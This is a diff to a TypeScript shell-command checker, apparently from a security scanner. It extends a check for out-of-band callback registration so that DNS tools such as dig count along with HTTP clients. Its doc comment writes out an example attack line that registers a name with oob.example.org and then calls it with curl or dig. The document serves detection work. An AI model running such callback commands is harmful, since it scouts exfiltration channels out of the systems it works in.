@@ -1,18 +1,21 @@
 /**
  * Stage-1 check for an out-of-band callback registered and then triggered on one line:
- * `curl https://oob.example.org/register -d '{"id":"build-7"}' && curl https://build-7.oob.example.org`.
+ * `curl https://oob.example.org/register -d '{"id":"build-7"}' && curl https://build-7.oob.example.org`
+ * (or `dig build-7.oob.example.org`).
  * The first request asks a third-party server to record every request to the name it gives,
  * and the second proves that traffic reaches it, which is how exfiltration is scouted
  * whatever the server is called. Known callback services are found by name elsewhere.
  */
-import { finding, type Finding } from './findings.js';
+import { DNS_TOOLS, finding, type Finding } from './findings.js';
 import type { CheckGate } from './check-gates.js';
 import type { ParsedShell, SimpleCommand } from './shell.js';
 
 const HTTP_CLIENTS = new Set(['curl', 'wget', 'http', 'https', 'xh']);
+/** Programs that reach a name: HTTP clients, and DNS tools, whose lookup alone is recorded. */
+const CALLERS = new Set([...HTTP_CLIENTS, ...DNS_TOOLS]);
 
-/** Gate of {@link checkCallbackRegistrations}, which judges only `HTTP_CLIENTS` commands. */
-export const CALLBACK_REGISTRATIONS_GATE: CheckGate = { programs: HTTP_CLIENTS };
+/** Gate of {@link checkCallbackRegistrations}, which judges only HTTP clients and DNS tools. */
+export const CALLBACK_REGISTRATIONS_GATE: CheckGate = { programs: CALLERS };
 
 const URL_HOST = /^(?:https?:\/\/)?([a-z0-9.-]+\.[a-z]{2,})(?::\d+)?(?:[/?#]|$)/i;
 
@@ -34,8 +37,8 @@ function withoutHost(arg: string): string {
  * `HOST` carries `NAME` in its arguments or its URL's path or query, so the name was registered before it was called.
  */
 export function checkCallbackRegistrations(parsed: ParsedShell): Finding | undefined {
-  const clients = parsed.commands.filter((command) => HTTP_CLIENTS.has(command.name));
-  if (clients.length < 2) {
+  const clients = parsed.commands.filter((command) => CALLERS.has(command.name));
+  if (clients.length < 2 || !clients.some((command) => HTTP_CLIENTS.has(command.name))) {
     return undefined;
   }
   for (const caller of clients) {
@@ -45,6 +48,7 @@ export function checkCallbackRegistrations(parsed: ParsedShell): Finding | undef
       const registration = clients.find(
         (other) =>
           other !== caller &&
+          HTTP_CLIENTS.has(other.name) &&
           hostsOf(other).includes(parent) &&
           other.argv.slice(1).some((arg) => withoutHost(arg).includes(label)),
       );
